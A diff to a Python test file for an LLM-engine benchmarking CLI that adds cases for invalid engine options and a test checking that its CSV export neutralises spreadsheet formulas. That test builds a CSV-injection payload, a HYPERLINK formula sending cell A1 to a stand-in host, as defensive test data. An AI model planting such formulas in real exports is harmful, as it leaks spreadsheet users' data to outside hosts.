@@ -28,6 +28,16 @@ CASES = [  # (case, arguments after the command, what the one line says)
      "notebook 60_agentic_loop: parameter arms: unknown arm 'lamacpp-spec'"),
     ("a cell option the engine does not take", ["run", "--only", "retention", "-p", 'cell_options={"gpu_layrs": 1}'],
      "notebook 10_retention: parameter cell_options: unknown llamacpp cell option(s) gpu_layrs; valid: "),
+    ("a cell option's value of the wrong type", ["run", "--only", "retention", "-p", 'cell_options={"threads": "abc"}'],
+     "notebook 10_retention: parameter cell_options: llamacpp cell option threads must be an integer or null, got "
+     "'abc'"),  # it started a kernel and exited 1 (issue 52)
+    ("a cell option's value its engine refuses", ["run", "--only", "retention", "-p", 'cell_options={"kv_type": "q3"}'],
+     "kv_type must be one of f32, f16, q4_0, q8_0, bf16, got 'q3'"),
+    ("a probe's cell option of the wrong type", ["probe", "retention.pinning_under_pressure", "-c", "threads=abc"],
+     "llamacpp cell option threads must be an integer or null, got 'abc'"),
+    ("a GGUF for an engine that runs Hugging Face directories", ["probe", "reuse.per_request_metrics", "--engine", "vllm"],
+     "vllm runs a Hugging Face directory (config.json + safetensors), and smollm2-135m is a GGUF file"),  # was exit 0,
+    # a not-run finding (issue 52)
     ("a probe on an engine not installed, with an unknown model",
      ["probe", "retention.pinning_under_pressure", "--engine", "trtllm", "-m", "smollm3"],
      "unknown model spec 'smollm3'"),
@@ -113,6 +123,30 @@ def test_findings_export_the_flat_table_as_csv_and_json(two_findings, tmp_path):
     records = json.loads(r.stdout)
     assert [d["id"] for d in records] == list(table["id"])
     assert records[list(table["probe"]).index("reuse.per_request_metrics")]["metric.reused_tokens"] == 12
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_the_csv_export_neutralises_a_formula_a_finding_carries(tmp_path, lead):
+    """A summary a spreadsheet would run as a formula (OWASP, CSV injection) is exported as text: a leading ``'``;
+    numbers (a negative metric) stay numbers, and the JSON export keeps the text as it was."""
+    import csv
+
+    from test_findings import make
+    from workbench import findings, findings_export
+
+    attack = lead + 'HYPERLINK("http://example.invalid/?"&A1,"click")'
+    folder = tmp_path / "findings"
+    f = make(verdict="not-run", reason=attack)
+    f.summary = attack
+    f.metrics = findings.metric_values({"reused_tokens": -3})
+    findings.write(f, folder)
+    text = findings_export.export(findings.scan([folder]), "csv")
+    (row,) = list(csv.DictReader(text.splitlines(keepends=True)))
+    assert row["summary"] == "'" + attack and row["reason"] == "'" + attack
+    assert row["metric.reused_tokens"] == "-3"
+    assert not any(v.startswith(findings_export.FORMULA_PREFIXES) for v in row.values() if v != "-3")
+    (record,) = json.loads(findings_export.export(findings.scan([folder]), "json"))
+    assert record["summary"] == attack
 
 
 def test_findings_export_refuses_a_bad_format_or_out_before_reading(two_findings, tmp_path):
